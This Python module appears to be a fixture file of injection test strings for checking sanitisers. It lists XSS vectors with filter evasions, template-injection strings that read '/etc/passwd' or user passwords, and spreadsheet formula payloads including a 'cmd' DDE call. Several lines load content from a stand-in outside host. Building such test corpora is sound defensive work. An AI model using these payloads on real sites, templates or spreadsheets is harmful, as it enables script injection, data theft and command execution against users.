"""What somebody types who wants it to run: in a page, in a template, in a paper, in a table.

Each that could run in a page sets ``window.__pwned``, opens a dialog, or asks another server.
"""

from __future__ import annotations

RUN = "window.__pwned=1"
SHORT = 200

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}//</sCrIpT >",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//elsewhere.example.com/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=alert(1)//{RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}",
    f"` onclick=`{RUN}",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>open</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<div onpointerover={RUN}>over</div>",
    f"<marquee onstart={RUN}>",
    f'<button hx-on:click="{RUN}" hx-get=/healthz hx-trigger=load>x</button>',
    '<div hx-get="//elsewhere.example.com/" hx-trigger="load">x</div>',
]
FRAMES = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table></mtext></math>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=data:text/html,<script>{RUN}</script>></object>",
    "<embed src=//elsewhere.example.com/x.svg>",
    "<base href=//elsewhere.example.com/>",
    "<meta http-equiv=refresh content=0;url=//elsewhere.example.com/>",
    "<link rel=stylesheet href=//elsewhere.example.com/x.css>",
    "<form action=//elsewhere.example.com/><button>Sign in</button></form>",
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>click</a>",
    f"<a href=&#106;avascript:{RUN}>click</a>",
    f"data:text/html,<script>{RUN}</script>",
]
STYLES = [
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:red">over all</p>',
    "<style>@import '//elsewhere.example.com/x.css';</style>",
]
ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
LETTERS = [
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"a line\u2028<script>{RUN}</script>\u2029another",
    f"\u2066\u202eCLL sgnidloH elpmaxE\u2069 <b>{RUN}</b>",
    f"\u05d1\u05d9\u05d5\u05d1 <img src=x onerror={RUN}> \u0635\u0631\u0641",
    f"e\u0301\u0301\u0301 <i onclick={RUN}>\U0001f30a</i>",
]
TEMPLATES = [
    "{{ 7|add:7 }}{{ request.user.password }}",
    "{% include '/etc/passwd' %}{% load static %}",
    "{% debug %}{# gone #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__.__mro__}%s%(x)s{signer}",
]
PAPERS = [
    '#read("/etc/passwd")',
    '#eval("7*7") #set text(white) #import "x.typ"',
    "*not bold* _not slanted_ = not a heading",
    "$ x^2 $ @label <label> // gone /* gone */",
    '#link("https://elsewhere.example.com")[click]',
    '"] #panic() [#"',
]
TABLES = [
    '=HYPERLINK("//elsewhere.example.com","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd",
]
PAYLOADS = [
    *(SCRIPTS + HANDLERS + FRAMES + ADDRESSES + STYLES),
    *(ENTITIES + LETTERS + TEMPLATES + PAPERS + TABLES),
]
MARKUP = [*SCRIPTS, *HANDLERS, *FRAMES]


def one_line(text: str) -> str:
    """A text as a page lays it out: its white space together."""
    return " ".join(text.split())
